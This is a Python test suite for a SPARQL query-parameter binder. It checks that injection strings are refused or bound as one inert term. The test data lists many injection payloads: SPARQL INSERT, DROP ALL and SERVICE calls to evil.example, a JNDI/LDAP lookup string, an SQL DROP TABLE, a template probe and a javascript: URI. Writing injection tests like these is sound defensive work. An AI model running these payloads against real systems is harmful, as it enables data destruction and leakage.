"""No value of a parameter can say more than itself: what is bound is one term, or is refused."""

from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kgbuild.errors import QueryError
from kgbuild.query import Table, read_text
from kgbuild.query.binding import bind
from kgbuild.query.refusals import admit
from kgbuild.query.request import GraphFiles
from kgbuild.query.runner import Worker
from kgbuild.store import Literal, NamedNode, Store, to_rdflib

if TYPE_CHECKING:
    from collections.abc import Iterator

TEXT = read_text('# param: text (xsd:string) = "" a text\nSELECT (?text AS ?given) { FILTER(?text != 1) }')
THING = read_text("# param: thing (iri) = kg:Event a thing\nSELECT (?thing AS ?given) { OPTIONAL { ?thing ?p ?o } }")
DAY = read_text("# param: day (xsd:date) = 2023-01-01 a day\nSELECT (?day AS ?given) {}")
NUMBER = read_text("# param: number (xsd:integer) = 1 a number\nSELECT (?number AS ?given) {}")

TEXTS = (
    '"',
    "'",
    '"""',
    "'''",
    "\\",
    "\\\\",
    '\\"',
    '\\\\"',
    '" } INSERT DATA { <a:a> <a:a> <a:a> } #',
    '") } UNION { ?s ?p ?o } #',
    '" . } ; DROP ALL ; #',
    '"@en . ?s ?p ?o',
    '"^^<http://evil.example/> } #',
    '"^^xsd:string) || (1 = 1',
    'x" AS ?other) (1 AS ?given) { } #',
    "# a comment",
    '"# a comment\n',
    "two\nlines",
    "carriage\rreturn",
    "a\ttab",
    '\n"\n}\nSELECT * { SERVICE <http://evil.example/> { ?s ?p ?o } }',
    "> . <http://evil.example/p> <http://evil.example/o",
    "<http://evil.example/>",
    "?other",
    "$text",
    "?text",
    "} } } }",
    "{ { { {",
    "\\n",
    "\\x22",
    "&quot;",
    "%22%7D",
    "%00",
    "\u202e\u2066 right to left",
    "zero\u200bwidth\u200djoiner",
    "line\u2028separator\u2029",
    "\U0001f600 emoji",
    "ＳＥＲＶＩＣＥ",
    "“quotes” ‘of’ «others»",
    "＂fullwidth＂",
    "SERVICE",
    "a" * 100_000,
    '"' * 1000,
    "\\" * 999,
    "<<( ?s ?p ?o )>>",
    "_:b",
    "[] a []",
    "{| ?p ?o |}",
    "true",
    "1 || 1",
    "'; DROP TABLE students; --",
    "${jndi:ldap://evil.example/}",
    "{{ 7 * 7 }}",
    "%s %d {0}",
)
REFUSED_TEXTS = (
    "\\u0022",
    "\\u0022 } INSERT { } #",
    "\\\\u0022",
    "\\U00000022",
    "\\u005C",
    "\\u000A",
    "\x00",
    "a\x00b",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\ufeffmark",
    "\ufffe",
    "\ud800",
    "\udc00\ud800",
)
IRIS = (
    "https://example.org/%3E",
    "https://example.org/%00",
    "https://example.org/'",
    "https://example.org/?thing",
    "javascript:alert(1)",
    "<https://example.org/>",
    "kg:Meeting",
    "kg:",
    "https://exämple.org/ü",
)
REFUSED_IRIS = (
    "https://example.org/> . <https://evil.example/p> <https://evil.example/o",
    "https://example.org/>",
    "https://example.org/a b",
    "https://example.org/a\nb",
    'https://example.org/"',
    "https://example.org/{x}",
    "https://example.org/|",
    "https://example.org/^",
    "https://example.org/`",
    "https://example.org/\\u003E",
    "https://example.org/\\",
    "https://example.org/\x00",
    "https://example.org/\u202e",
    "https://example.org/\u200b",
    "https://example.org/\u00a0",
    "https://example.org/#} INSERT",
    "<<https://example.org/>>",
    "kg:Meeting> . ?s ?p ?o . <x:x",
    "no-scheme",
    "?p",
    "_:b",
    "a",
    "",
    " ",
    "https://example.org/\ud800",
)
LEXICALS = (
    "2023-02-31",
    "2023-13-01",
    '2023-01-01"^^<http://evil.example/>',
    "2023-01-01 ",
    "2023-01-01\n",
    "٢٠٢٣-٠١-٠١",
    "2023-01-01Z",
    "-2023-01-01",
    "",
    "today",
    "2023",
)
NUMBERS = ("1 || true", "1)", "0x10", "1e3", "١", "1.0", "", " 1", "--1", "1\n", "NaN", '1"', "1_000")


@pytest.fixture(scope="module")
def worker() -> "Iterator[Worker]":
    """A process over no data."""
    with Worker(GraphFiles(())) as process:
        yield process


def test_there_are_many() -> None:
    """More than a hundred different injections are tried."""
    tried = (*TEXTS, *REFUSED_TEXTS, *IRIS, *REFUSED_IRIS, *LEXICALS, *NUMBERS)
    assert len(set(tried)) > 100


@pytest.mark.parametrize("value", TEXTS, ids=lambda value: ascii(value)[:40])
def test_text(value: str, worker: Worker) -> None:
    """A text comes back as the very same literal, in Oxigraph and in rdflib."""
    assert answers(bind(TEXT, {"text": value}), worker) == [Literal(value)] * 2


@pytest.mark.parametrize("value", REFUSED_TEXTS, ids=ascii)
def test_refused_text(value: str) -> None:
    """Control characters, and what some engines read as their escapes, are refused by the parameter's name."""
    with pytest.raises(QueryError, match=r"parameter text (holds|wants)"):
        bind(TEXT, {"text": value})


@pytest.mark.parametrize("value", IRIS)
def test_iri(value: str, worker: Worker) -> None:
    """An IRI comes back as the very same IRI, in both engines; prefixes of the vocabularies are known."""
    meant = value.strip("<>").replace("kg:", "https://w3id.org/kgbuild/ontology#")
    assert answers(bind(THING, {"thing": value}), worker) == [NamedNode(meant)] * 2


@pytest.mark.parametrize("value", REFUSED_IRIS, ids=ascii)
def test_refused_iri(value: str) -> None:
    """What is no absolute IRI, or holds what an IRI cannot, is refused by the parameter's name."""
    with pytest.raises(QueryError, match="parameter thing wants an IRI"):
        bind(THING, {"thing": value})


@pytest.mark.parametrize("value", LEXICALS, ids=ascii)
def test_day(value: str) -> None:
    """What is no day of the calendar, written as four, two and two digits, is refused by name."""
    with pytest.raises(QueryError, match="parameter day wants a day"):
        bind(DAY, {"day": value})


@pytest.mark.parametrize("value", NUMBERS, ids=ascii)
def test_number(value: str) -> None:
    """What is no whole number is refused by name."""
    with pytest.raises(QueryError, match="parameter number"):
        bind(NUMBER, {"number": value})


@given(value=st.text(st.characters(exclude_categories=())))
@settings(max_examples=300, deadline=None)
def test_any_text_is_one_token(value: str) -> None:
    """Whatever the text: it is refused, or only the parameter's token is another, and the text reads back the same."""
    try:
        query = bind(TEXT, {"text": value})
    except QueryError:
        return
    before, after = admit(TEXT.text).tokens, admit(query).tokens
    assert [token.text for token in after if token.kind != "string"] == [
        token.text for token in before if token.variable != "text"
    ]
    assert len([token for token in after if token.kind == "string"]) == 2
    found = Store().query(query)
    assert [row["given"] for row in found] == [Literal(value)]  # type: ignore[union-attr]


@given(value=st.text(st.characters(exclude_categories=()), max_size=30).map("https://example.org/".__add__))
@settings(max_examples=300, deadline=None)
def test_any_iri_is_one_token(value: str) -> None:
    """Whatever follows a scheme: it is refused, or the query has one IRI where the parameter stood."""
    try:
        query = bind(THING, {"thing": value})
    except QueryError:
        return
    before, after = admit(THING.text).tokens, admit(query).tokens
    assert [token.text if token.variable != "thing" else f"<{value}>" for token in before] == [
        token.text for token in after
    ]


def answers(query: str, worker: Worker) -> list[object]:
    """What Oxigraph and rdflib bind ?given to; each answers with one row."""
    mine = worker.ask(query)
    assert isinstance(mine, Table)
    assert len(mine.rows) == 1
    (theirs,) = to_rdflib([]).query(query)
    term = theirs["given"]  # type: ignore[call-overload, index]
    return [mine.rows[0][0], NamedNode(str(term)) if type(term).__name__ == "URIRef" else Literal(str(term))]
